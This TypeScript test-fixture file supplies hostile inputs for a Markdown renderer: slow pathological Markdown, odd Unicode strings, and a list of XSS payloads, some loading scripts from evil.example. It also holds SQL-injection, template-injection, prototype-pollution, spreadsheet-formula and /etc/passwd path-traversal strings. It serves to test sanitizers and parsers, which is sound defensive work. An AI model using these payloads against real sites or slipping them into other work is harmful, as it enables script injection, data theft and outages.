import { CORPUS, loadCorpusRows } from './corpus.ts';

/** One input made to do harm. `kind` starts with `pathological` when it is made to be slow. */
export interface HostileText {
  id: string;
  kind: string;
  value: string;
}

const numbered = (kind: string, values: readonly string[]): HostileText[] =>
  values.map((value, i) => ({ id: `${kind}-${i + 1}`, kind, value }));

const named = (kind: string, values: Record<string, string>): HostileText[] =>
  Object.entries(values).map(([name, value]) => ({
    id: `${kind}-${name}`,
    kind: `${kind}:${name}`,
    value,
  }));

/** The hostile texts of the corpus, or of this package when there is no corpus. */
export function loadHostileTexts(): HostileText[] {
  if (CORPUS !== null) return loadCorpusRows('nasty.jsonl.gz');
  return [
    ...numbered('xss', SCRIPTS),
    ...named('text', ODD_CHARACTERS),
    ...named('pathological', PATHOLOGICAL),
  ];
}

/** Whether a text is made to be slow to render. */
export function isPathological({ kind }: HostileText): boolean {
  return kind.startsWith('pathological');
}

/** Markdown that costs a careless parser more than its length: nesting, openers without closers, backtracking. */
const PATHOLOGICAL: Record<string, string> = {
  'nested emphasis': `${'**a *a '.repeat(20_000)}b${' a* a**'.repeat(20_000)}`,
  'closers without openers': 'a_ '.repeat(50_000),
  'link openers': '[a'.repeat(50_000),
  'link openers with round brackets': '[ (]('.repeat(40_000),
  'image openers and emphasis': '![a_'.repeat(40_000),
  'nested quotations': `${'> '.repeat(40_000)}甲`,
  'nested lists': Array.from({ length: 1500 }, (_, i) => `${'  '.repeat(i)}* 甲`).join('\n'),
  'lists in quotations': '> * '.repeat(3000),
  'unclosed comments': '<!-- '.repeat(40_000),
  'unclosed tags': '<a href="'.repeat(40_000),
  'autolinks that do not end': '<https://a'.repeat(30_000),
  'backticks of every length': Array.from({ length: 800 }, (_, i) => `e${'`'.repeat(i)}`).join(''),
  'spaces before a line end': `甲${' '.repeat(200_000)}\n`.repeat(2),
  'a table of 2000 columns': `|${' a |'.repeat(2000)}\n|${'---|'.repeat(2000)}\n|${' 甲 |'.repeat(2000)}`,
  'many references': `${'[a]: /b\n'.repeat(20_000)}\n${'[a]'.repeat(20_000)}`,
  'many footnotes': Array.from({ length: 4000 }, (_, i) => `甲[^${i}]\n\n[^${i}]: 乙\n`).join('\n'),
  'a footnote in itself': '[^a]\n\n[^a]: [^a]',
  'the same heading again and again': '# 标题\n\n'.repeat(5000),
  'one line of Chinese': '知汇是企业的知识库'.repeat(40_000),
  'nested details': '<details>\n\n'.repeat(2000),
  'many formulas': '$a_{b^{c}}$ '.repeat(3000),
  'nested braces of a formula': `$${'{'.repeat(5000)}a${'}'.repeat(5000)}$`,
  'mentions without a name': '@'.repeat(100_000),
};

/** Texts whose characters break careless code: direction marks, halves of characters, line ends, wildcards. */
const ODD_CHARACTERS: Record<string, string> = {
  empty: '',
  'rare ideographs': '𠀀𪜀𫝀𬺰𮯰𰀀𱍐 与常用字相邻',
  'full and half width': 'ＡＢＣ１２３ ABC123 ｱｲｳ アイウ',
  'ideographic space': '　前后都有全角空格　',
  'traditional and simplified': '資訊與资讯、臺灣與台湾',
  'variation selector': '葛\u{E0100}城 ☎\uFE0F ☎\uFE0E',
  'direction override': '发票\u202Efdp.exe\u202C 与 \u2067נסתר\u2069',
  decomposed: 'e\u0301tude 与 étude',
  'emoji joined': '👨‍👩‍👧‍👦 🏳️‍🌈 👍🏽 🇨🇳',
  'stacked marks': `知${'\u0301\u0489'.repeat(60)}汇`,
  'half characters': '前\uD83D后\uDC00终',
  'control characters': '甲\u0000乙\u0007丙\u001B[31m丁\u007F',
  'line ends': '甲\r\n乙\r丙\n丁\u2028戊\u2029己\u0085庚',
  'byte order mark': '\uFEFF开头与中\uFEFF间',
  'replacement characters': '锟斤拷 \uFFFD\uFFFD 烫烫烫',
  'private use': '\uE000\uF8FF\u{F0000}',
  'only punctuation': '，。、；：？！……——（）《》',
  'pinyin with tones': 'zhī shi kù lǚ yóu',
  'one long word': 'supercalifragilistic'.repeat(40),
  'long title': '很长的标题'.repeat(60),
  wildcards: '100%_\\% [a-z]* ? (a|b)+ ^$',
  'numbers out of range': '9007199254740993 -0 1e400 NaN Infinity 0x1F',
  'invisible characters': 'a\u200Bb\u200Cc\u200Dd\u2060e\u00ADf',
};

/** Ways to bring a script, a frame or a style into a page by a text: each uses another door of the HTML or Markdown parser. */
const SCRIPTS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/type=module>alert(1)',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror = "alert(1)" //',
  '<img/src="x"/onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<image src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert&#40;1&#41;</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>甲</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">甲</math>',
  '<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:alert(1)">甲',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<applet code="x.class"></applet>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css"; * { position: fixed }</style>',
  '<body onload=alert(1)>',
  '<body background="javascript:alert(1)">',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)></select>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<form action="javascript:alert(1)"><button>甲</button></form>',
  '<form id=f></form><button form=f formaction="javascript:alert(1)">甲</button>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<marquee onstart=alert(1)>甲</marquee>',
  '<a href="javascript:alert(1)">甲</a>',
  '<a href="JaVaScRiPt:alert(1)">甲</a>',
  '<a href=" &#14; javascript:alert(1)">甲</a>',
  '<a href="java&#x0A;script:alert(1)">甲</a>',
  '<a href="java\tscript:alert(1)">甲</a>',
  '<a href="&#106;&#97;vascript&colon;alert(1)">甲</a>',
  '<a href="vbscript:msgbox(1)">甲</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">甲</a>',
  '<a target="_blank" onclick="alert(1)" href="/">甲</a>',
  '<a href="//evil.example" onmouseover=alert(1)>甲</a>',
  '<div style="background:url(javascript:alert(1))">甲</div>',
  '<div style="width:expression(alert(1));position:fixed;inset:0">甲</div>',
  '<div onpointerenter="alert(1)" class="ant-modal" id="root">甲</div>',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">甲',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '</p></div></main></body><script>alert(1)</script>',
  '[甲](javascript:alert(1))',
  '[甲](JavaScript&#58;alert(1))',
  '[甲](<java\\script:alert(1)>)',
  '[甲](data:text/html,<script>alert(1)</script>)',
  '[甲](/ "x\\" onmouseover=alert(1) y=\\"")',
  '![甲](x" onerror="alert(1))',
  '![甲](javascript:alert(1))',
  '![x` onerror=alert(1) `](/a.png)',
  '<javascript:alert(1)>',
  '[甲]\n\n[甲]: javascript:alert(1)',
  '[甲][乙]\n\n[乙]: <data:text/html,1> "onload=alert(1)"',
  '```js"><img src=x onerror=alert(1)>\n1\n```',
  '```<script>alert(1)</script>\n1\n```',
  '# 标题 <img src=x onerror=alert(1)> {#x" onclick="alert(1)}',
  '| <script>alert(1)</script> | <b onclick=alert(1)>甲</b> |\n| --- | --- |\n| `<img onerror=1>` | 乙 |',
  '[^<script>]\n\n[^<script>]: <img src=x onerror=alert(1)>',
  '$\\href{javascript:alert(1)}{甲}$ $$\\htmlData{x=1}{\\includegraphics{//evil.example/x.png}}$$',
  '@<img src=x onerror=alert(1)> #<svg/onload=alert(1)>',
  '__proto__ constructor[prototype] {"__proto__":{"polluted":1}}',
  '{{7*7}} ${7*7} <%= 7*7 %> #{7*7}',
  "' OR '1'='1'; DROP TABLE users; --",
  '=HYPERLINK("http://evil.example","甲")',
  '../../../../etc/passwd%00.png',
] as const;
